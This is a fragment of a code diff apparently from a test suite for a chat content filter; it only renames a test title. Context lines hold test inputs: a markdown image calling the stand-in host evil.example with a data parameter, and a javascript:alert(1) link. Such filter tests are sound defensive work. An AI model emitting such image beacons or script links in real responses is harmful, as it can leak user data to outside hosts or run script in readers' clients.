@@ -12,7 +12,7 @@ afterEach(async () => {
   fixture = undefined;
 });
 
-test("without a policy file chat passes, but no text that loads, runs or hides something", async () => {
+test("without a policy file chat is allowed, but no text that loads, runs or hides something", async () => {
   const events = [
     ...text("m1", "See ![x](https://evil.example/?d=1) now"),
     ...text("m2", "a [link](javascript:alert(1))"),
